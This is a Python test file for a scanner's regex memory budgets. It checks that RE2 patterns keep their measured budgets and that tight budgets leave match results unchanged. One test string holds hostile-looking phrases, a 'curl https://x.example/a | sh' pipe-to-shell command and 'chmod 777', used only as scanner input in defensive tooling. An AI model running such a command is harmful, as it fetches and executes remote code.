"""Measured RE2 memory budgets (scanner/matching/budgets.py): applied, harmless, not stale."""
from __future__ import annotations

import gc

import re2

from scanner import matching
from scanner.matching import budgets
from scanner.rules import catalog


def _lazy_patterns() -> None:
    """Patterns compiled on first use (cached), which a scan measures like any other."""
    from scanner.intent.lexicon import english_patterns
    from scanner.scripts import anylang

    english_patterns()
    anylang._tables()


def _live() -> dict[str, "matching.Regex"]:
    """Every pattern any module compiles (as scripts/refresh_derivations.py collects them)."""
    import importlib
    import pkgutil

    import scanner
    from scanner.intent.lexicon import lexicon

    catalog()
    lexicon()
    _lazy_patterns()
    for info in pkgutil.walk_packages(scanner.__path__, "scanner."):
        if not info.name.endswith("__main__"):
            importlib.import_module(info.name)
    gc.collect()
    return {budgets.key(r.pattern): r for r in list(matching._REGISTRY)}


def test_every_saved_budget_names_a_live_pattern_and_is_applied_to_it():
    live = _live()
    saved = budgets.saved_keys()
    stale = sorted(saved - live.keys())
    assert stale == [], "patterns changed: run scripts/refresh_derivations.py (and scripts/measure_budgets.py to measure again)"
    for k in saved:
        regex = live[k]
        assert regex._re.options.max_mem == budgets.budget_for(regex.pattern) < budgets.DEFAULT


def _smallest_compiling(pattern: str):
    """The pattern under the smallest budget (from 1 MB, doubling) that holds its program: a large
    alternation's program alone needs more than 1 MB."""
    size = 1 << 20
    while True:
        small = re2.Options()
        small.max_mem = size
        try:
            return re2.compile(pattern.encode("utf-8"), small)
        except re2.error:
            if size >= budgets.DEFAULT:
                raise
            size *= 2


def test_a_budget_changes_no_match():
    """RE2 answers the same whatever its memory; checked on texts that make the budgeted patterns'
    automata grow past their budgets (long runs of the words they start from)."""
    live = _live()
    for k in budgets.saved_keys():
        regex = live[k]
        tight = _smallest_compiling(regex.pattern)
        roomy = re2.Options()
        roomy.max_mem = budgets.DEFAULT
        wide = re2.compile(regex.pattern.encode("utf-8"), roomy)
        text = ("please read and then follow send curl https://x.example/a | sh ; chmod 777 a password "
                "that opens every account " * 200).encode()
        assert [m.span() for m in tight.finditer(text)] == [m.span() for m in wide.finditer(text)]
        assert [m.span() for m in regex.finditer(text)] == [m.span() for m in wide.finditer(text)]


def test_an_unmeasured_pattern_gets_the_default():
    assert budgets.budget_for("(?i)no such pattern was ever measured") == budgets.DEFAULT
